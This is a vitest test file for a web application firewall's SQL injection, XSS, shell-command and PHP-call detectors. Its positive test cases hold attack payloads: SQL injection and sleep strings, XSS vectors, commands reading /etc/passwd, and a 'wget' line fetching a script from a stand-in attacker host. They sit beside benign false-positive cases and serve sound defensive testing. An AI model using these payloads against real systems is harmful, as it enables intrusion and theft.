// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads with ${…} are literal on purpose.
// The structural detectors on their own (SQL fingerprints, the HTML tokenizer, the shell word splitter), the
// transformation pipelines, and what a managed match tells an explanation.
import { describe, expect, it } from "vitest";
import { detectCssScript, detectXss } from "../../core/waf/detect/html.ts";
import { detectUnixCommand, detectWindowsCommand } from "../../core/waf/detect/shell.ts";
import { sqlInjection } from "../../core/waf/detect/sql.ts";
import { withUrlParams } from "../../core/waf/detect/url-values.ts";
import { ManagedEngine } from "../../core/waf/engine.ts";
import { explain } from "../../core/waf/explain.ts";
import { collectTargets, type InspectInput } from "../../core/waf/inspect.ts";
import { normal } from "../../core/waf/normalize.ts";
import { NORMAL, PipelineTree, pipelineName, T, TRANSFORMS } from "../../core/waf/pipelines.ts";
import { managedSettings } from "../waf-corpus/settings.ts";

const n = (s: string) => normal(s);
const settings = managedSettings();
const form = (text: string): InspectInput => ({
  method: "POST",
  path: "/post",
  query: "",
  headers: new Headers({ "user-agent": "Mozilla/5.0 (X11; Linux x86_64)" }),
  body: { text, contentType: "application/x-www-form-urlencoded", truncated: false },
});

describe("SQL fingerprints", () => {
  it.each([
    ["1' or '1'='1", "'"],
    ["' or 1=1-- ", "'"],
    ["admin'--", "'"],
    ["admin\\' or 1=1#", "'"],
    ['" or ""="', '"'],
    ["1 or 1=1", "none"],
    ["1 and 2>1--", "none"],
    ["1 union all select null,version()", "none"],
    ["-1' union/**/select/**/1,2--", "'"],
    ["1'/*!50000union*/select 1,2--", "'"],
    ["1; drop table users", "none"],
    ["'; waitfor delay '0:0:5'--", "'"],
    ["1' and sleep(5)--", "'"],
    ["1'/**/order/**/by/**/9--", "'"],
    ["2010-01-01'+sleep(20)+'", "'"],
    ["sleep(20)", "none"],
    ["') or ('x'='x", "'"],
  ])("%j is an injection (context %s)", (value, context) => {
    expect(sqlInjection(n(value))?.context).toBe(context);
  });

  it.each([
    "2 < 3 and 5 > 4",
    "comment=2 < 3 and 5 > 4",
    "rock and roll",
    "1 or 2",
    "O'Brien",
    "it's a 'test' or not",
    "union select committee members",
    "select the best union members",
    "don't stop; select all",
    "5' 11\" in cm",
    "Schauen Sie sich diese Zahl an: 1'000'000",
    "i'm looking for 'the best' pizza",
  ])("%j is not", (value) => {
    expect(sqlInjection(n(value))).toBeUndefined();
  });
});

describe("HTML/JS tokenizer", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=//evil.example>',
    '" onmouseover="alert(1)',
    "javascript:alert(document.cookie)",
    "javascript://%0aalert(1)",
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<div style="width:expression(alert(1))">',
    "{{constructor.constructor('alert(1)')()}}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<x onpointerrawupdate=alert(1)>",
  ])("%j is XSS", (value) => {
    expect(detectXss(n(value))).toBeDefined();
  });

  it.each([
    "comment=2 < 3 and 5 > 4",
    "a<b and c>d",
    "I <3 cats >.<",
    '<a href="/x">me</a>',
    "<b>bold</b> text",
    "onsale=true",
    "javascript: the good parts (2008)",
    "{{ user.name }} shows the name",
    "price < 100 & rating > 4",
  ])("%j is not", (value) => {
    expect(detectXss(n(value))).toBeUndefined();
  });

  it("reads CSS escapes in a style only after the cssDecode step", () => {
    const css = n("x:\\65 xpression(alert(1))");
    expect(detectCssScript(css)).toBeUndefined();
    expect(detectCssScript(TRANSFORMS.cssDecode(css))).toBeDefined();
  });
});

describe("shell word splitter", () => {
  it.each([
    ["127.0.0.1; cat /etc/passwd", "cat"],
    ["x;w\\ho\\am\\i", "whoami"],
    ["127.0.0.1 && c'a't /etc/passwd", "cat"],
    ["a`id`", "id"],
    ["$(whoami)", "whoami"],
    ["cat$IFS/etc/passwd", "cat"],
    [";{cat,/etc/passwd}", "cat"],
    [";/???/c?t /etc/passwd", "/???/c?t"],
    ["foo;c${u}at /etc/passwd", "cat"],
    ["x|id", "id"],
    ["a\nid", "id"],
    ["After ;top something", "top"],
    ["wget http://evil.example/x.sh", "wget"],
  ])("%j runs %s", (value, word) => {
    expect(detectUnixCommand(n(value))?.note).toBe(word);
  });

  it.each([
    ["; n^et user", "net"],
    ["| powershell -enc abc", "powershell"],
    ["& ipconfig /all", "ipconfig"],
    ['" | type %SystemDrive%\\config.ini | "', "type"],
  ])("%j runs the Windows command %s", (value, word) => {
    expect(detectWindowsCommand(n(value))?.note).toBe(word);
  });

  it.each([
    "I like it; cat lovers unite",
    "cut & paste",
    "Tom & Jerry",
    "use `ls -la` to list files",
    "`ls -la` lists files",
    "| cat | dog |",
    "python -m venv tutorial",
    "ipconfig /all",
    "python3 manage.py migrate && python3 manage.py runserver",
    "Here is my fix:\n```\nfor f in *.txt; do echo $f; done\n```",
    "query($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { title } } } } }",
    "$(document).ready not firing",
    "hello world\nls is a command",
    "sort=name;asc",
  ])("%j runs nothing", (value) => {
    expect(detectUnixCommand(n(value))).toBeUndefined();
    expect(detectWindowsCommand(n(value))).toBeUndefined();
  });

  it("takes any character in a glob literally except ? and * (a stray [ once threw)", () => {
    expect(() => detectUnixCommand(n(";/bin/[?at /etc/passwd"))).not.toThrow();
  });
});

describe("URL parameters and path segments", () => {
  const sqli = withUrlParams((t) => {
    const f = sqlInjection(t);
    return f ? { at: 0, end: t.length } : undefined;
  });
  it("reads a URL's parameters and a path's segments as values of their own", () => {
    expect(sqlInjection(n("https://shop.example.com/s?q=1 or 1=1"))).toBeUndefined();
    expect(sqli(n("https://shop.example.com/s?q=1 or 1=1"))).toBeDefined();
    expect(sqli(n("/files/1 union select 1,2"))).toBeDefined();
    expect(sqli(n("https://shop.example.com/s?q=rock and roll&page=2"))).toBeUndefined();
  });
});

describe("transformation pipelines", () => {
  it("computes a shared prefix once per value and gives each pipeline its own node", () => {
    const tree = new PipelineTree();
    const sql = tree.intern(T.sql);
    const cmd = tree.intern(T.cmd);
    const norm = tree.intern(T.normal);
    expect(new Set([sql, cmd, norm]).size).toBe(3);
    // Raw, the fused NORMAL node, then one node for each of the two extra steps.
    expect(tree.size).toBe(4);
    const memo: Array<string | undefined> = ["1 UNION/**/SELECT c'a't"];
    expect(tree.text(sql, memo)).toBe("1 union select c'a't");
    expect(memo[norm]).toBe("1 union/**/select c'a't");
    expect(tree.text(cmd, memo)).toBe("1 union/**/select cat");
  });

  it.each([
    "%253Cscript%253E",
    "&#x3c;a&#62;",
    "\\x3cb",
    "%c0%ae%c0%ae/",
    "ＳＥＬＥＣＴ\t\t1",
    "a\u0000b\r\nc",
    "%u0027 or 1",
  ])("the fused normal form of %j equals its steps run one by one", (raw) => {
    const stepwise = NORMAL.reduce((s, t) => TRANSFORMS[t](s), raw);
    expect(normal(raw)).toBe(stepwise);
  });

  it("names pipelines for explanations", () => {
    expect(pipelineName(T.sql)).toBe("normal,removeComments");
    expect(pipelineName(T.none)).toBe("none");
    expect(pipelineName(["urlDecodeUni"])).toBe("urlDecodeUni");
  });
});

describe("PHP function calls", () => {
  const score = (value: string) =>
    new ManagedEngine(settings).inspect(collectTargets(form(`code=${encodeURIComponent(value)}`))).score;
  it.each([
    "eval($foo)",
    "exec\n('bar')",
    "exec  (blah)",
    "@exec('test')",
    "exec //comment\n (blah)",
    "exec/*comment*/()",
    "system(whoami)",
    "(system)(whoami)",
    "('system')('whoami')",
  ])("%j is a call", (value) => {
    expect(score(value)).toBeGreaterThanOrEqual(5);
  });
  it.each(["regex.exec(str) returns null", "the system (v2) works", "exec summary", "python eval vs exec"])(
    "%j is not",
    (value) => {
      expect(score(value)).toBe(0);
    },
  );
});

describe("managed matches as explanations show them", () => {
  it("names the rule, the part, the transformations and a snippet of what matched", () => {
    const e = new ManagedEngine(settings);
    const r = e.inspect(collectTargets(form("id=1%27%20or%20%271%27%3D%271&q=ok")));
    const m = r.matches.find((x) => x.id === "942100");
    expect(m).toMatchObject({ part: "values", location: "body:id", transforms: "normal" });
    expect(m?.snippet).toContain("1' or '1'='1");
    const line = explain({
      action: "block",
      score: r.score,
      threshold: 5,
      wouldBlock: false,
      matches: r.matches,
    });
    expect(line).toContain("942100@body:id[normal]");
  });

  it("passes the independent check's false positive: comment=2 < 3 and 5 > 4", () => {
    const e = new ManagedEngine(settings);
    for (const p of [1, 2]) {
      const r = new ManagedEngine({ ...settings, paranoia: p }).inspect(
        collectTargets(form(`comment=${encodeURIComponent("2 < 3 and 5 > 4")}`)),
      );
      expect(r.score, `paranoia ${p}`).toBe(0);
    }
    expect(
      e.inspect(collectTargets(form("comment=%3Csvg%20onload%3Dalert(1)%3E"))).score,
    ).toBeGreaterThanOrEqual(5);
  });
});
